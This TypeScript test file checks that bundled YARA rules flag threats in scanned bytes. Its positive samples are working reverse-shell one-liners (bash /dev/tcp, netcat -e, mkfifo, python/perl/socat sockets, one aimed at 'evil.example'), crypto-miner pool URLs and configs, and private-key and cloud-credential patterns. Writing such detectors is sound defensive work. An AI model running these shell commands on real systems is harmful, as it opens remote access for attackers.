// Each bundled rule on bytes it must match and on near misses it must not.
import { describe, expect, it } from 'vitest';
import { BUNDLED_RULES } from '../../../electron/inspect/yara/bundled-rules';
import { blockScanner, compileRules } from '../../../electron/inspect/yara/engine';

const compiled = compileRules(BUNDLED_RULES);
if ('errors' in compiled) throw new Error(JSON.stringify(compiled.errors));
const scanner = blockScanner(compiled.rules);
const rulesOf = (text: string): string[] =>
  scanner
    .scan(Buffer.from(`\0\0garbage ${text} more garbage\0`, 'latin1'))
    .map((m) => m.identifier)
    .sort();

const B64 = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7';
const AWS_ID = 'AKIAIOSFODNN7EXAMPLE';
const AZURE_KEY = `${'A'.repeat(86)}==`;

const cases: { rule: string; positive: string[]; negative: string[] }[] = [
  {
    rule: 'reverse_shell_dev_tcp',
    positive: [
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      'sh -i 5>& /dev/udp/evil.example/53',
      'exec 5<>/dev/tcp/10.1.1.1/80',
    ],
    negative: ['bash -i', 'cat /dev/tcp is not a file', 'echo >& /dev/null'],
  },
  {
    rule: 'reverse_shell_netcat_exec',
    positive: ['nc -e /bin/sh 10.0.0.1 4444', 'ncat -v -e /bin/bash host 1', 'nc.traditional -c /bin/sh x 1'],
    negative: ['nc -l 8080', 'nc -z host 22', 'ncat --ssl host 443'],
  },
  {
    rule: 'reverse_shell_fifo_pipe',
    positive: ['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f'],
    negative: ['mkfifo /tmp/f; cat /tmp/f | sort', 'mkfifo /run/pipe'],
  },
  {
    rule: 'reverse_shell_script_socket',
    positive: [
      `python -c 'import socket,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0)'`,
      `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,$a);exec("/bin/sh -i");'`,
      'socat tcp-connect:10.0.0.1:4444 exec:/bin/bash,pty',
    ],
    negative: ['s=socket.socket(); s.connect(("x",1)); s.send(b"hi")', 'socat tcp-listen:80 tcp:backend:80'],
  },
  {
    rule: 'miner_stratum_url',
    positive: ['stratum+tcp://xmr.example.net:3333', 'STRATUM+SSL://pool.example:14433'],
    negative: ['stratum://host:3333', 'stratum+tcp://:3333', 'tcp://pool.example.net:3333'],
  },
  {
    rule: 'miner_xmrig_config',
    positive: [
      '{"donate-level": 1, "pools": [{"url": "x"}]}',
      'xmrig --donate-level=1 -o x',
      '"algo": "rx/0", "pools": []',
    ],
    negative: ['{"pools": [{"url": "x"}]}', '"algo": "sha256", "pools": []', '"donate-level" only'],
  },
  {
    rule: 'miner_pool_host',
    positive: ['connect pool.supportxmr.com now', 'xmr-eu.nanopool.org', 'gulf.moneroocean.stream'],
    negative: ['supportxmr is a word', 'nanopoolorg', 'example.com'],
  },
  {
    rule: 'private_key_pem',
    positive: [
      `-----BEGIN PRIVATE KEY-----\n${B64}`,
      `-----BEGIN RSA PRIVATE KEY-----\r\n${B64}`,
      `-----BEGIN EC PRIVATE KEY-----\n${B64}`,
    ],
    negative: [
      `-----BEGIN PUBLIC KEY-----\n${B64}`,
      '-----BEGIN PRIVATE KEY-----\n',
      `-----BEGIN CERTIFICATE-----\n${B64}`,
    ],
  },
  {
    rule: 'private_key_openssh',
    positive: ['-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ'],
    negative: ['-----BEGIN OPENSSH PRIVATE KEY-----\n', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI user@host'],
  },
  {
    rule: 'private_key_pgp',
    positive: ['-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nlQOYBF'],
    negative: ['-----BEGIN PGP PUBLIC KEY BLOCK-----\n', '-----BEGIN PGP SIGNATURE-----\n'],
  },
  {
    rule: 'cloud_aws_access_key',
    positive: [`aws_access_key_id = ${AWS_ID}\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY`],
    negative: [`aws_access_key_id = ${AWS_ID}`, 'aws_secret_access_key = short'],
  },
  {
    rule: 'cloud_aws_access_key_id',
    positive: [AWS_ID, 'ASIAY34FZKBOKMUTVV7A'],
    negative: ['AKIA1234', 'XAKIAIOSFODNN7EXAMPLE', 'AKIAiosfodnn7example'],
  },
  {
    rule: 'cloud_gcp_service_account',
    positive: ['{"type": "service_account", "project_id": "p", "private_key": "-----BEGIN PRIVATE KEY-----\\nMIIE"}'],
    negative: ['{"type": "service_account", "project_id": "p"}', '{"type": "authorized_user"}'],
  },
  {
    rule: 'cloud_azure_storage_key',
    positive: [
      `DefaultEndpointsProtocol=https;AccountName=myacct;AccountKey=${AZURE_KEY};EndpointSuffix=core.windows.net`,
    ],
    negative: ['DefaultEndpointsProtocol=https;AccountName=myacct;AccountKey=short==', 'UseDevelopmentStorage=true'],
  },
];

describe('bundled YARA rules', () => {
  it('compile, and every rule has cases here', () => {
    const names = BUNDLED_RULES.flatMap((s) => [...s.text.matchAll(/^rule (\w+)/gm)].map((m) => m[1]!));
    expect(names.sort()).toEqual(cases.map((c) => c.rule).sort());
    expect(compiled.count).toBe(cases.length);
  });
  for (const c of cases) {
    it(`${c.rule} matches its positives`, () => {
      for (const text of c.positive) expect(rulesOf(text), text).toContain(c.rule);
    });
    it(`${c.rule} does not match its negatives`, () => {
      for (const text of c.negative) expect(rulesOf(text), text).not.toContain(c.rule);
    });
  }
  it('match nothing in text that is no threat', () => {
    expect(rulesOf('PATH=/usr/local/sbin:/usr/bin HOME=/root /bin/sh -c "sleep 3600" nginx: worker process')).toEqual(
      [],
    );
  });
});
